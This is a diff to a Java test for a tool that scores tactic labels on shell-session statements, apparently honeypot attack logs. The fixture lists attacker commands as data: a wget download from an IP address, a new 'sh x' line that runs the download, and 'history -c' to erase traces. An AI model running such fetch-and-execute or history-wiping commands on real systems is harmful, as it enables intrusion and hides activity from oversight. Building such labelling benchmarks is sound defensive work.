@@ -23,7 +23,7 @@ class ScoreTest {
   private static final String SESSIONS =
       """
       {"id":"s1","family":"a","statements":["uname -a ;","whoami ;"],"labels":["Discovery","Discovery"]}
-      {"id":"s2","family":"family","statements":["cd /tmp ;","wget http://192.0.2.7/x ;","history -c ;"],"labels":["Execution","Execution","Defense Evasion"],"extra":{"deep":[1]}}
+      {"id":"s2","family":"family","statements":["cd /tmp ;","wget http://192.0.2.7/x ;","sh x ;","history -c ;"],"labels":["Execution","Execution","Execution","Defense Evasion"],"extra":{"deep":[1]}}
       {"id":"s3","family":"family","statements":["uname -a ;"],"labels":["Harmless"]}
       """;
 
@@ -57,8 +57,8 @@ class ScoreTest {
   @Test
   void statementsAreScoredAndTheLastLineHoldsTheFigures() throws IOException {
     JsonNode last = last(cli.run("score", "logprecis", write("s.jsonl", SESSIONS), "--json"));
-    assertThat(last.get("statements").asInt()).isEqualTo(6);
-    assertThat(last.get("accuracy").asDouble()).isEqualTo(0.8333);
+    assertThat(last.get("statements").asInt()).isEqualTo(7);
+    assertThat(last.get("accuracy").asDouble()).isEqualTo(0.8571);
     assertThat(last.get("fidelity").asDouble()).isEqualTo(0.6667);
     // Discovery 0.8, Execution 1, Defense Evasion 1, Harmless 0.
     assertThat(last.get("macro_f1").asDouble()).isEqualTo(0.7);
@@ -78,7 +78,7 @@ class ScoreTest {
             last(cli.run("score", "logprecis", file, "--half", "set-aside", "--json"))
                 .get("statements")
                 .asInt())
-        .isEqualTo(4);
+        .isEqualTo(5);
     assertThat(cli.run("score", "logprecis", file, "--half", "other").code()).isEqualTo(2);
   }
 
@@ -98,7 +98,7 @@ class ScoreTest {
             "first word, taught by the develop half, on the other half",
             "always the most frequent label",
             "oracle without context");
-    assertThat(predictors.getLast().get("accuracy").asDouble()).isEqualTo(0.8333);
+    assertThat(predictors.getLast().get("accuracy").asDouble()).isEqualTo(0.8571);
   }
 
   @Test
@@ -253,6 +253,6 @@ class ScoreTest {
             last(cli.run("score", "logprecis", file.toString(), "--json"))
                 .get("statements")
                 .asInt())
-        .isEqualTo(6);
+        .isEqualTo(7);
   }
 }
